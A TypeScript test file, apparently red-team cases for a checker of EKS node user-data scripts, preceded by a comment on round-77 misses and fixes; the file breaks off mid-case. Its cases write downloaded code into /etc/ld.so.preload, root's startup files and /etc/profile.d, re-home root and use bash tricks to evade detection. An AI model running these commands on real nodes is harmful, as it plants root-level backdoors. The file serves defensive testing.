// Red-team round 77 on EKS NODE user data: neighbours of round 77's shell fixes (tilde expansion, links at judged
// paths, subshell scope, cd/pushd/OLDPWD, source/eval carry-back, udev RUN/PROGRAM/IMPORT, auditd plugins.d) and
// routes no 7x node file tried: shell functions' scope, namerefs, `a || b` directory changes, PWD-driven `~+`,
// background (`&`) and coproc subshells, find -exec copiers, usermod -d of root, auditd.conf (plugin_dir,
// *_action = exec), udev relative program names, tmpfiles f/f~/w lines, core_pattern/uevent_helper, NetworkManager
// and dhclient hooks, system-generators/system-shutdown, sshrc, kubelet credential provider, IMDS hop limit by CLI.
// Results: insecure refused 79 of 92 (plus 4 unknown-part cases not counted); secure clean 28 of 34 (S6 by design).
// Misses (13 insecure, 5 secure), all fixed in round 77 but C13 (with its neighbours C13c, C13d, T8c), fixed in round 78:
// - FUNCTION-SCOPE (4 insecure: C4, C4b, C17, P16; 2 secure: S17, S18): a function body runs in a copy of the
//   context (rootReads.ts, the `ctx.functions.has(program)` branch: `vars: new Map(ctx.vars)`, body = {...ctx}); its
//   cd/pushd and global assignments never reach the caller, so a function's `cd /etc` leaves the reader in /tmp and a
//   function's `F=/etc/ld.so.preload` leaves F at its old value (and the reverse over-refuses).
// - NAMEREF-ASSIGN (2 insecure: P1, P13; 1 secure: S12): `declare -n R=F; R=VALUE` sets R, not F (namerefs are
//   followed only when read).
// - OR-LIST CWD (1: C13): `cd /etc || cd /tmp` read as both cds in sequence (cwd /tmp); bash runs the second only if
//   the first fails.
// - PWD-TILDE (1: T8): `~+` read as the reader's cwd, not the PWD variable the script assigned.
// - FIND-EXEC COPIERS (2: L6, L6d): `find ... -exec ln -s {} /etc/profile.d/ \;` and `-exec cp {} DIR/ \;` of a
//   download are not judged as copies/links into the judged directory (`find -exec` is read for the scripts it runs).
// - ROOT-HOME (2: T4, T4f): `usermod -d /opt/h root` moves root's home (and its startup files) to a directory whose
//   .bashrc is a download or sets LD_PRELOAD; only a home under a pod-writable directory is judged.
// - AUDIT plugin_dir (1: A3c): auditd.conf `plugin_dir = /opt/plugins` with a downloaded plugin conf there (the same
//   download into /etc/audit/plugins.d is refused: A3d).
// - BACKGROUND-SCOPE (2 secure: S2, S3): `cd /etc &` and `coproc cd /etc` run in subshells but are read in the
//   current shell (over-refusal). S6 (aliases without expand_aliases) is refused by design (rootReads.ts:
//   "whether or not the shell expands it"): skipped, noted, not counted.
// Not reported (class fixed on fix76-node2, merged in round 77): T2, P2, P12, P14 (unknown-part paths).
// Held: tildes after = in dd operands, in arrays, declare, for lists, unset HOME, OLDPWD+cd -, ~- (T1-T10 but T2/T4/T8);
// { } groups, if/for/lastpipe/source <( )/. /dev/stdin/builtin/command/\cd/pushd swaps/aliases/trap/cd -P (C1-C16 but
// C4/C13); read/set --/${%}/${/}/${,,}/printf -v/+=()/mapfile/${::}/IFS read (P3-P15); ln -sr / trailing slash /
// --symbolic / cp --symbolic-link / ( cd && ln ) / python os.symlink / tmpfiles L+ %E / L+! / f~ base64 / links at
// directories / busybox ln / cp -l / xargs ln (L*); udev rule links, RUN sh -c curl|sh, tmpfiles f rules and plugins;
// audit plugin links; every /data (pod-writable) variant of auditd.conf exec/plugin_dir, core_pattern, uevent_helper,
// dispatcher links, cron BASH_ENV, usermod/passwd homes; downloads into system-generators, system-shutdown, sshrc,
// ~/.ssh/rc, kubelet's credential provider dir, cron.hourly, system-environment-generators.
// Pinned as accepted by design (DECIDED round 69: "a downloaded program run as root" is the operator's own): downloaded
// programs named by auditd.conf space_left_action/disk_full_action exec, plugin_dir confs the script writes, udev RUN/
// PROGRAM/IMPORT relative names (/usr/lib/udev), core_pattern/uevent_helper pipes, cron BASH_ENV, NetworkManager/
// dhclient/kernel postinst hooks; IMDS hop limit by `aws ec2 modify-instance-metadata-options` (the node role's AWS
// managed policies grant no ec2:ModifyInstanceMetadataOptions: the call is denied).
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const file = heredocFile;
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const DL = "curl -fsSL -o /opt/ops.sh https://downloads.example.com/ops.sh";
const PRE = "export LD_PRELOAD=/opt/x.so";
const n = (id: string) => `dev-${id}-77n-nodes`;
/** A case of the unknown-part class (RootReads.unknownTarget, branch fix76-node2, merged in round 77): refused. */
const NODE2 = false;

const insecure: NodeCase[] = [
    // ---- tildes ----
    // bash(1) "Tilde Expansion": "Bash also performs tilde expansion on words satisfying the conditions of variable
    // assignments ... when they appear as arguments to simple commands" (not in POSIX mode): of=~root/.bashrc.
    devNodeCase(
        "T1 dd of=~root/.bashrc (tilde after = in an assignment-like argument)",
        devNodeScript(n("t1"), [SO, `echo '${PRE}' | dd of=~root/.bashrc oflag=append conv=notrunc`]),
    ),
    // Was a MISS (fixed in round 77: the unknown-part class, branch fix76-node2): bash(1) "Parameter
    // Expansion": `${D:-word}` "word is subject to tilde expansion": an unset D gives /root/.bashrc. Accepted today:
    // D is the environment's (unknown), the path has an unknown part. Fix: branch fix76-node2.
    devNodeCase(
        "T2 ${D:-~root}/.bashrc (tilde in a default word)",
        devNodeScript(n("t2"), [SO, `echo '${PRE}' >> "\${D:-~root}/.bashrc"`]),
        /./,
        NODE2,
    ),
    devNodeCase(
        "T3 A=(~root/.bashrc); >> ${A[0]}",
        devNodeScript(n("t3"), [SO, "A=(~root/.bashrc)", `echo '${PRE}' >> "\${A[0]}"`]),
    ),
    // Was a MISS (fixed in round 77): usermod(8) "-d, --home HOME_DIR: The user's new login directory"; bash(1) INVOCATION: a login shell reads
    // ~/.bash_profile (AL2023's sources ~/.bashrc) from the home in /etc/passwd (sshd(8), su -, sudo -i): after
    // `usermod -d /opt/h root`, root's shells run the downloaded /opt/h/.bashrc. The same download at /root/.bashrc is
    // refused (T4d), so this moves root's startup files out of the pack's sight. Accepted: rootReads.ts (useradd/
    // usermod branch near "a home in a data directory hands pods") judges a new home only under a pod-writable
    // directory and never updates this.accounts.homes. Fix: usermod -d/--home of root (or of any account whose home
    // the pack models) re-homes it (accounts.homes, ~root, BASH_STARTUP paths), and root's startup files under the new
    // home are judged as /root's are (written before or after the usermod).
    devNodeCase(
        "T4 usermod -d /opt/h root with a downloaded /opt/h/.bashrc",
        devNodeScript(n("t4"), [
            "mkdir -p /opt/h",
            "curl -fsSL -o /opt/h/.bashrc https://downloads.example.com/rc",
            "usermod -d /opt/h root",
        ]),
    ),
    // Was a MISS (fixed in round 77): as T4, the new home's .bashrc written by the script sets LD_PRELOAD to a downloaded library (refused at
    // /root/.bashrc, T1). Fix: as T4.
    devNodeCase(
        "T4f usermod -d /opt/h root with a written .bashrc LD_PRELOAD",
        devNodeScript(n("t4f"), [SO, "mkdir -p /opt/h", `echo '${PRE}' > /opt/h/.bashrc`, "usermod -d /opt/h root"]),
    ),
    // Round 77 neighbours of T4 (rootReads.ts usermod: root's home read as a link /root -> HOME, movedHomes for ~root).
    devNodeCase(
        "T4g usermod -m --home /opt/h root, then >> /opt/h/.profile (written after)",
        devNodeScript(n("t4g"), [SO, "usermod -m --home /opt/h root", `echo '${PRE}' >> /opt/h/.profile`]),
    ),
    // bash(1) "Tilde Expansion": ~root is root's login directory, /opt/h after the usermod.
    devNodeCase(
        "T4h usermod -d /opt/h root, then >> ~root/.bash_profile",
        devNodeScript(n("t4h"), [SO, "usermod -d /opt/h root", `echo '${PRE}' >> ~root/.bash_profile`]),
    ),
    devNodeCase(
        'T4i usermod -d "$(cat /run/h)" root (a home the pack cannot know)',
        devNodeScript(n("t4i"), ['usermod -d "$(cat /run/h)" root']),
    ),
    devNodeCase(
        "T4b usermod -d /data/h root (pod-writable home)",
        devNodeScript(n("t4b"), ["usermod -d /data/h root"]),
    ),
    devNodeCase(
        "T4c sed /etc/passwd root home to /data/h",
        devNodeScript(n("t4c"), ["sed -i 's#^root:x:0:0:root:/root:#root:x:0:0:root:/data/h:#' /etc/passwd"]),
    ),
    devNodeCase(
        "T4d download to /root/.bashrc (control for T4)",
        devNodeScript(n("t4d"), ["curl -fsSL -o /root/.bashrc https://downloads.example.com/rc"]),
    ),
    devNodeCase(
        "T4e sed /etc/passwd root home /opt/h with a downloaded .bashrc",
        devNodeScript(n("t4e"), [
            "mkdir -p /opt/h",
            "curl -fsSL -o /opt/h/.bashrc https://downloads.example.com/rc",
            "sed -i 's#^root:x:0:0:root:/root:#root:x:0:0:root:/opt/h:#' /etc/passwd",
        ]),
    ),
    // bash(1) "Shell Parameters": assignment arguments of declaration commands (declare) undergo tilde expansion.
    devNodeCase(
        "T5 declare F=~root/.bashrc (declaration argument)",
        devNodeScript(n("t5"), [SO, "declare F=~root/.bashrc", `echo '${PRE}' >> "$F"`]),
    ),
    devNodeCase(
        "T6 for f in ~root/.bashrc",
        devNodeScript(n("t6"), [SO, `for f in ~root/.bashrc; do echo '${PRE}' >> "$f"; done`]),
    ),
    // bash(1) "Tilde Expansion": "If HOME is unset, the home directory of the user executing the shell is substituted".
    devNodeCase(
        "T7 unset HOME; >> ~/.bashrc (getpwuid: /root)",
        devNodeScript(n("t7"), [SO, "unset HOME", `echo '${PRE}' >> ~/.bashrc`]),
    ),
    // Was a MISS (fixed in round 77): bash manual "Tilde Expansion" (gnu.org/s/bash/manual/html_node/Tilde-Expansion.html): "If the tilde-prefix
    // is a '~+', the value of the shell variable PWD replaces the tilde-prefix": the VARIABLE, which a script may
    // assign without moving (S4): `PWD=/etc; > ~+/ld.so.preload` writes /etc/ld.so.preload (ld.so(8): loaded into every
    // program, root's). Accepted: rootReads.ts RootReads.tilde maps "+" to ctx.cwd, never ctx.vars PWD. Fix: cd/pushd/
    // popd set PWD in ctx.vars (as OLDPWD already is) and `~+` reads ctx.vars PWD (unknown: fail closed).
    devNodeCase(
        "T8 PWD=/etc; > ~+/ld.so.preload (~+ is $PWD)",
        devNodeScript(n("t8"), [SO, "cd /tmp", "PWD=/etc", "echo /opt/x.so > ~+/ld.so.preload"]),
    ),
    // Round 77 neighbours of the ~+ fix: cd sets PWD (bash(1) "Shell Variables": PWD "The current working
    // directory as set by the cd command").
    devNodeCase(
        "T8b cd /etc; > ~+/ld.so.preload",
        devNodeScript(n("t8b"), [SO, "cd /etc", "echo /opt/x.so > ~+/ld.so.preload"]),
    ),
    devNodeCase(
        "T8c cd /etc || cd /tmp; > ~+/ld.so.preload (PWD unknown after a conditional cd)",
        devNodeScript(n("t8c"), [SO, "cd /tmp", "cd /etc || cd /tmp", "echo /opt/x.so > ~+/ld.so.preload"]),
    ),
    // bash(1) cd: "An argument of - is converted to $OLDPWD": the variable, assigned here.
    devNodeCase(
        "T9 OLDPWD=/etc; cd - ; > ld.so.preload",
        devNodeScript(n("t9"), [SO, "cd /tmp", "OLDPWD=/etc", "cd - >/dev/null", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "T10 OLDPWD=/etc; > ~-/ld.so.preload",
        devNodeScript(n("t10"), [SO, "cd /tmp", "OLDPWD=/etc", "echo /opt/x.so > ~-/ld.so.preload"]),
    ),
    // ---- working directory ----
    // bash(1) "Compound Commands": "{ list; } list is simply executed in the current shell environment".
    devNodeCase(
        "C1 { cd /etc; } then > ld.so.preload",
        devNodeScript(n("c1"), [SO, "cd /tmp", "{ cd /etc; }", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "C2 if cd /etc; then :; fi",
        devNodeScript(n("c2"), [SO, "cd /tmp", "if cd /etc; then :; fi", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "C3 for d in /etc; do cd $d; done",
        devNodeScript(n("c3"), [SO, "cd /tmp", 'for d in /etc; do cd "$d"; done', "echo /opt/x.so > ld.so.preload"]),
    ),
    // Was a MISS (fixed in round 77): bash manual "Shell Functions" (gnu.org/s/bash/manual/html_node/Shell-Functions.html): "Shell functions are
    // executed in the current shell context; no new process is created to interpret them": go's `cd /etc` moves the
    // script, whose next `> ld.so.preload` writes /etc/ld.so.preload (ld.so(8): every program root runs loads the
    // downloaded library). Accepted: rootReads.ts, the `ctx.functions.has(program)` branch runs the body in
    // `{ ...ctx, vars: new Map(ctx.vars) }` and copies back only stdin, so the cwd, directory stack, OLDPWD, shell
    // options and every global assignment stay in the body. Fix: after the body, carryShellState(ctx, body) (as
    // source does) and copy back every variable the body did not make `local` (bash's dynamic scope).
    devNodeCase(
        "C4 function go() { cd /etc; }; go",
        devNodeScript(n("c4"), [SO, "cd /tmp", "go() { cd /etc; }", "go", "echo /opt/x.so > ld.so.preload"]),
    ),
    // Was a MISS (fixed in round 77): as C4 with the `function NAME { }` form. Fix: as C4.
    devNodeCase(
        "C4b function goetc { cd /etc; }; goetc",
        devNodeScript(n("c4b"), [
            SO,
            "cd /tmp",
            "function goetc { cd /etc; }",
            "goetc",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    // Was a MISS (fixed in round 77): as C4: pushd in a function changes the caller's directory and stack (bash "Directory Stack Builtins").
    devNodeCase(
        "C17 function pushd /etc",
        devNodeScript(n("c17"), [
            SO,
            "cd /tmp",
            "goetc() { pushd /etc >/dev/null; }",
            "goetc",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    // bash(1) shopt lastpipe: "the shell runs the last command of a pipeline not executed in the background in the
    // current shell environment" (job control off in scripts).
    devNodeCase(
        "C5 shopt -s lastpipe; true | cd /etc",
        devNodeScript(n("c5"), [
            SO,
            "cd /tmp",
            "shopt -s lastpipe",
            "true | cd /etc",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "C6 source <(echo cd /etc)",
        devNodeScript(n("c6"), [SO, "cd /tmp", "source <(echo cd /etc)", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "C7 . /dev/stdin <<EOF cd /etc",
        devNodeScript(n("c7"), [
            SO,
            "cd /tmp",
            ". /dev/stdin <<'EOF'",
            "cd /etc",
            "EOF",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "C8 builtin cd /etc",
        devNodeScript(n("c8"), [SO, "cd /tmp", "builtin cd /etc", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "C9 command cd /etc",
        devNodeScript(n("c9"), [SO, "cd /tmp", "command cd /etc", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "C10 \\cd /etc (quoted command word)",
        devNodeScript(n("c10"), [SO, "cd /tmp", "\\cd /etc", "echo /opt/x.so > ld.so.preload"]),
    ),
    // bash "Directory Stack Builtins": pushd "with no arguments ... exchanges the top two elements".
    devNodeCase(
        "C11 pushd /etc; pushd /tmp; pushd (swap back to /etc)",
        devNodeScript(n("c11"), [
            SO,
            "pushd /etc >/dev/null",
            "pushd /tmp >/dev/null",
            "pushd >/dev/null",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "C12 expand_aliases: alias go='cd /etc'",
        devNodeScript(n("c12"), [
            SO,
            "cd /tmp",
            "shopt -s expand_aliases",
            "alias go='cd /etc'",
            "go",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    // Was a MISS (fixed in round 78): bash manual "Lists of Commands": "command1 || command2: command2 is executed if, and only if, command1
    // returns a non-zero exit status": /etc exists, so the second cd never runs and the write lands in /etc
    // (ld.so.preload, ld.so(8)). Accepted: the reader runs both cds in sequence and ends in /tmp (`cd /etc || true`
    // is refused, C13b). Fix: a cd/pushd/popd inside an && / || list (or any command that may not run) makes the
    // directory either one: the cwd after the list unknown unless both sides agree (unknownDirectory fails closed).
    // Still open (round 77): making the cwd unknown after any conditional cd refuses the common secure
    // `mkdir -p D && cd D && curl ... > f` (redteam66-node-agents); needs a set of candidate directories judged each,
    // not one cwd. C13c/C13d/T8c are its skipped neighbours.
    // Fixed in round 78: rootReads.ts keeps every working directory a list or if/case/loop may leave (Context.cwds,
    // RootReads.openLists/closeLists) and reads each command in each (atEachDirectory).
    devNodeCase(
        "C13 cd /etc 2>/dev/null || cd /tmp",
        devNodeScript(n("c13"), [SO, "cd /tmp", "cd /etc 2>/dev/null || cd /tmp", "echo /opt/x.so > ld.so.preload"]),
    ),
    // Round 77 neighbours of the && / || and background fixes (bash(1) "Lists").
    devNodeCase(
        "C13c true && cd /etc (a conditional cd that runs)",
        devNodeScript(n("c13c"), [SO, "cd /tmp", "true && cd /etc", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "C13d [ -d /x ] || { cd /etc; } (a conditional group)",
        devNodeScript(n("c13d"), [SO, "cd /tmp", "[ -d /x ] || { cd /etc; }", "echo /opt/x.so > ld.so.preload"]),
    ),
    // Round 78 neighbours (bash manual "Lists of Commands"; "Conditional Constructs": the if test may fail and the
    // then-list not run): the cd may or may not run, so the write may land in /etc.
    devNodeCase(
        "C13f-fix78 cd /etc/profile.d || true; cp a download there",
        devNodeScript(n("c13f"), [DL, "cd /tmp", "cd /etc/profile.d || true", "cp /opt/ops.sh ops.sh"]),
    ),
    devNodeCase(
        "C13g-fix78 if cd /etc; then :; fi; write",
        devNodeScript(n("c13g"), [SO, "cd /tmp", "if cd /etc; then :; fi", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "C13h-fix78 [ -d /etc ] && cd /etc; write",
        devNodeScript(n("c13h"), [SO, "cd /tmp", "[ -d /etc ] && cd /etc", "echo /opt/x.so > ld.so.preload"]),
    ),
    devNodeCase(
        "C13i-fix78 if [ -d /x ]; then cd /etc; else cd /tmp; fi; write",
        devNodeScript(n("c13i"), [
            SO,
            "if [ -d /x ]; then cd /etc; else cd /tmp; fi",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "C13e { cd /etc; write; } & (the write in the background subshell lands in /etc)",
        devNodeScript(n("c13e"), [SO, "cd /tmp", "{ cd /etc; echo /opt/x.so > ld.so.preload; } & wait"]),
    ),
    devNodeCase(
        "C13b cd /etc || true",
        devNodeScript(n("c13b"), [SO, "cd /tmp", "cd /etc || true", "echo /opt/x.so > ld.so.preload"]),
    ),
    // bash(1) trap: "the command arg is to be read and executed when the shell receives signal(s) sigspec ... EXIT".
    devNodeCase(
        "C14 trap '...> /etc/ld.so.preload' EXIT",
        devNodeScript(n("c14"), [SO, "trap 'echo /opt/x.so > /etc/ld.so.preload' EXIT"]),
    ),
    devNodeCase(
        "C15 pushd +1 rotation",
        devNodeScript(n("c15"), [
            SO,
            "pushd /etc >/dev/null",
            "pushd /tmp >/dev/null",
            "pushd +1 >/dev/null",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "C16 cd -P /etc/../etc",
        devNodeScript(n("c16"), [SO, "cd /tmp", "cd -P /etc/../etc", "echo /opt/x.so > ld.so.preload"]),
    ),
    // ---- parameters ----
    // Was a MISS (fixed in round 77): bash manual "Shell Parameters" (gnu.org/s/bash/manual/html_node/Shell-Parameters.html): "Whenever the
    // nameref variable is referenced, assigned to, unset, or has its attributes modified ..., the operation is
    // actually performed on the variable specified by the nameref variable's value": R=/etc/ld.so.preload sets F.
    // Accepted: rootReads.ts follows ctx.namerefs when a variable is READ (expand: referenced) but the assignment
    // branch (`ctx.vars.set(key, ...)` after `declaresNameref`) stores R itself. Fix: resolve the assigned name
    // through ctx.namerefs (referenced(key)) in plain assignments, read, printf -v, mapfile, for and declare.
    devNodeCase(
        "P1 declare -n R=F; R=/etc/ld.so.preload; > $F",
        devNodeScript(n("p1"), [SO, "F=/tmp/x", "declare -n R=F", "R=/etc/ld.so.preload", 'echo /opt/x.so > "$F"']),
    ),
    // Was a MISS (fixed in round 77: the unknown-part class, branch fix76-node2): bash(1) "${!parameter}" indirection.
    devNodeCase(
        "P2 ${!N} indirect",
        devNodeScript(n("p2"), [SO, "N=F", "F=/etc/ld.so.preload", 'echo /opt/x.so > "${!N}"']),
        /./,
        NODE2,
    ),
    devNodeCase(
        "P3 read F <<< /etc/ld.so.preload",
        devNodeScript(n("p3"), [SO, "read -r F <<< /etc/ld.so.preload", 'echo /opt/x.so > "$F"']),
    ),
    devNodeCase(
        "P4 set -- /etc/ld.so.preload; > $1",
        devNodeScript(n("p4"), [SO, "set -- /etc/ld.so.preload", 'echo /opt/x.so > "$1"']),
    ),
    devNodeCase(
        "P5 ${F%.bak}",
        devNodeScript(n("p5"), [SO, "F=/etc/ld.so.preload.bak", 'echo /opt/x.so > "${F%.bak}"']),
    ),
    devNodeCase(
        "P6 ${F/tmp/etc}",
        devNodeScript(n("p6"), [SO, "F=/tmp/ld.so.preload", 'echo /opt/x.so > "${F/tmp/etc}"']),
    ),
    devNodeCase("P7 ${F,,}", devNodeScript(n("p7"), [SO, "F=/ETC/LD.SO.PRELOAD", 'echo /opt/x.so > "${F,,}"'])),
    devNodeCase(
        "P8 printf -v F",
        devNodeScript(n("p8"), [SO, "printf -v F '%s/%s' /etc ld.so.preload", 'echo /opt/x.so > "$F"']),
    ),
    devNodeCase(
        "P9 A+=(x) then ${A[1]}",
        devNodeScript(n("p9"), [SO, "A=(/tmp/x)", "A+=(/etc/ld.so.preload)", 'echo /opt/x.so > "${A[1]}"']),
    ),
    devNodeCase(
        "P10 mapfile -t A <<< /etc/ld.so.preload",
        devNodeScript(n("p10"), [SO, "mapfile -t A <<< /etc/ld.so.preload", 'echo /opt/x.so > "${A[0]}"']),
    ),
    devNodeCase(
        "P11 ${F:0:18} substring",
        devNodeScript(n("p11"), [SO, "F=/etc/ld.so.preloadXX", 'echo /opt/x.so > "${F:0:18}"']),
    ),
    // Was a MISS (fixed in round 77: the unknown-part class, branch fix76-node2): bash(1) "${parameter:=word}" assigns word.
    devNodeCase(
        "P12 : ${F:=/etc/ld.so.preload}",
        devNodeScript(n("p12"), [SO, ': "${F:=/etc/ld.so.preload}"', 'echo /opt/x.so > "$F"']),
        /./,
        NODE2,
    ),
    // Was a MISS (fixed in round 77): as P1 with `local -n r=$1` in a function (the usual "return by reference" idiom): r=... sets the caller's
    // F (bash manual "Shell Parameters", namerefs; "Shell Functions": dynamic scope). Accepted: as P1, and the function
    // body's assignments do not reach the caller (C4). Fix: as P1 and C4.
    devNodeCase(
        "P13 local -n in a function",
        devNodeScript(n("p13"), [
            SO,
            "F=/tmp/x",
            "setp() { local -n r=$1; r=/etc/ld.so.preload; }",
            "setp F",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    // Was a MISS (fixed in round 77: the unknown-part class, branch fix76-node2): associative array element.
    devNodeCase(
        "P14 declare -A map",
        devNodeScript(n("p14"), [SO, "declare -A M=([p]=/etc/ld.so.preload)", 'echo /opt/x.so > "${M[p]}"']),
        /./,
        NODE2,
    ),
    // Round 77 neighbours of the nameref fix: every form that assigns goes through the nameref (bash(1) "PARAMETERS").
    devNodeCase(
        "P1b declare -n R=F; read -r R <<< /etc/ld.so.preload; > $F",
        devNodeScript(n("p1b"), [
            SO,
            "F=/tmp/x",
            "declare -n R=F",
            "read -r R <<< /etc/ld.so.preload",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "P1c declare -n R=F; printf -v R /etc/ld.so.preload; > $F",
        devNodeScript(n("p1c"), [
            SO,
            "F=/tmp/x",
            "declare -n R=F",
            "printf -v R /etc/ld.so.preload",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "P1d declare -n R=F; for R in /etc/ld.so.preload; > $F",
        devNodeScript(n("p1d"), [
            SO,
            "F=/tmp/x",
            "declare -n R=F",
            "for R in /etc/ld.so.preload; do :; done",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "P1e chained namerefs: Q -> R -> F",
        devNodeScript(n("p1e"), [
            SO,
            "F=/tmp/x",
            "declare -n R=F",
            "declare -n Q=R",
            "Q=/etc/ld.so.preload",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "P1f declare -n R=LD_PRELOAD; R=/data/x.so (a loader variable by nameref)",
        devNodeScript(n("p1f"), ["declare -n R=LD_PRELOAD", "export R=/data/x.so", "systemctl restart kubelet"]),
    ),
    devNodeCase(
        "P15 IFS=: read a b",
        devNodeScript(n("p15"), [SO, "IFS=: read -r a b <<< /tmp:/etc/ld.so.preload", 'echo /opt/x.so > "$b"']),
    ),
    // Was a MISS (fixed in round 77): bash manual "Shell Functions": "Variables local to the function may be declared with the local builtin";
    // every other assignment in the body is the shell's global (dynamic scope): setf's F=/etc/ld.so.preload is the
    // F written next (ld.so(8)). Accepted: the function body runs on `new Map(ctx.vars)` (rootReads.ts, functions
    // branch), dropped afterwards. Fix: as C4 (copy back every non-local variable).
    devNodeCase(
        "P16 function sets a global F",
        devNodeScript(n("p16"), [SO, "F=/tmp/x", "setf() { F=/etc/ld.so.preload; }", "setf", 'echo /opt/x.so > "$F"']),
    ),
    // Round 77 neighbours of the function-scope fix (bash(1) "FUNCTIONS": dynamic scope; "declare": in a function
    // declare makes names local "unless the -g option is supplied").
    devNodeCase(
        "P16b function's local F does not reach the caller (F stays /etc/ld.so.preload)",
        devNodeScript(n("p16b"), [
            SO,
            "F=/etc/ld.so.preload",
            "setf() { local F=/tmp/x; }",
            "setf",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "P16c declare -g in a function sets the global F",
        devNodeScript(n("p16c"), [
            SO,
            "F=/tmp/x",
            "setf() { declare -g F=/etc/ld.so.preload; }",
            "setf",
            'echo /opt/x.so > "$F"',
        ]),
    ),
    devNodeCase(
        "C4c nested functions: inner cd /etc reaches the top level",
        devNodeScript(n("c4c"), [
            SO,
            "cd /tmp",
            "inner() { cd /etc; }",
            "outer() { local d=x; inner; }",
            "outer",
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "C4d function cd to an unknown directory (fail closed)",
        devNodeScript(n("c4d"), [
            SO,
            "cd /tmp",
            'go() { cd "$1"; }',
            'go "$(cat /opt/dir)"',
            "echo /opt/x.so > ld.so.preload",
        ]),
    ),
    devNodeCase(
        "P17 function sets HOME then ~",
        devNodeScript(n("p17"), [SO, "seth() { HOME=/etc; }", "seth", "echo /opt/x.so > ~/ld.so.preload"]),
    ),
    // ---- links and copies at judged paths ----
    devNodeCase(
        "L1 ln -sr /opt/ops.sh /etc/profile.d/ops.sh",
        devNodeScript(n("l1"), [DL, "ln -sr /opt/ops.sh /etc/profile.d/ops.sh"]),
    ),
    devNodeCase(
        "L2 ln -s /opt/ops.sh /etc/profile.d/ (trailing slash)",
        devNodeScript(n("l2"), [DL, "ln -s /opt/ops.sh /etc/profile.d/"]),
    ),
    devNodeCase(
        "L3 cp --symbolic-link",
        devNodeScript(n("l3"), [DL, "cp --symbolic-link /opt/ops.sh /etc/profile.d/ops.sh"]),
    ),
    devNodeCase(
        "L4 ln --symbolic --force",
        devNodeScript(n("l4"), [DL, "ln --symbolic --force /opt/ops.sh /etc/profile.d/ops.sh"]),
    ),
    devNodeCase(
        "L5 (cd /etc/profile.d && ln -s /opt/ops.sh ops.sh)",
        devNodeScript(n("l5"), [DL, "(cd /etc/profile.d && ln -s /opt/ops.sh ops.sh)"]),
    ),
    // Was a MISS (fixed in round 77): find(1) "-exec command ;": "All following arguments to find are taken to be arguments to the command until
    // an argument consisting of ';' is encountered. The string '{}' is replaced by the current file name": this runs
    // `ln -s /opt/ops.sh /etc/profile.d/`, a link to a download that every root login shell sources (bash(1)
    // INVOCATION, /etc/profile; the plain ln form is refused, L2). Accepted: rootReads.ts reads find -exec only for
    // the scripts it runs (run-parts/find placed scripts), not as the copier/linker command it is. Fix: judge a find
    // -exec/-execdir command as the command it names with `{}` as each file find may print under its start paths
    // (unknown names: every file there), so ln/cp/mv/install/tee there link or copy into the judged directory.
    devNodeCase(
        "L6 find -exec ln -s {} /etc/profile.d/ \\;",
        devNodeScript(n("l6"), [DL, "find /opt -maxdepth 1 -name ops.sh -exec ln -s {} /etc/profile.d/ \\;"]),
    ),
    // Was a MISS (fixed in round 77): as L6 with cp (a copy of the download into /etc/profile.d). Fix: as L6.
    devNodeCase(
        "L6d find -exec cp {} /etc/profile.d/ \\;",
        devNodeScript(n("l6d"), [DL, "find /opt -maxdepth 1 -name ops.sh -exec cp {} /etc/profile.d/ \\;"]),
    ),
    // Round 77 neighbours of L6 (rootReads.ts findExecRuns). find(1) "-exec command {} +": "the command line is built by
    // appending each selected file name at the end".
    devNodeCase(
        "L6f find -exec cp -t /etc/profile.d/ {} + (the + form)",
        devNodeScript(n("l6f"), [DL, "find /opt -maxdepth 1 -name ops.sh -exec cp -t /etc/profile.d/ {} +"]),
    ),
    // Files the script did not make under the start point (the image's, or none): names and content unknown.
    devNodeCase(
        "L6g find /usr/share/ops -exec cp {} /etc/profile.d/ (files the pack cannot know)",
        devNodeScript(n("l6g"), ["find /usr/share/ops -name '*.sh' -exec cp {} /etc/profile.d/ \\;"]),
    ),
    // find(1) -execdir: "runs from the subdirectory containing the matched file".
    devNodeCase(
        "L6h find -execdir ln -s {} /etc/profile.d/",
        devNodeScript(n("l6h"), [
            DL,
            "find /opt -maxdepth 1 -name ops.sh -execdir ln -s /opt/ops.sh /etc/profile.d/ \\;",
        ]),
    ),
    devNodeCase(
        'L6i sudo find "$D" -exec cp {} /etc/profile.d/ (a start point the pack cannot know)',
        devNodeScript(n("l6i"), [
            'D="$(cat /run/ops-dir)"',
            'sudo find "$D" -name ops.sh -exec cp {} /etc/profile.d/ \\;',
        ]),
    ),
    devNodeCase(
        "L6b find /data -exec ln -s (data file)",
        devNodeScript(n("l6b"), ["find /data -maxdepth 1 -name ops.sh -exec ln -s {} /etc/profile.d/ \\;"]),
    ),
    devNodeCase(
        "L6c ln -s /data/ops.sh /etc/profile.d/",
        devNodeScript(n("l6c"), ["ln -s /data/ops.sh /etc/profile.d/"]),
    ),
    devNodeCase(
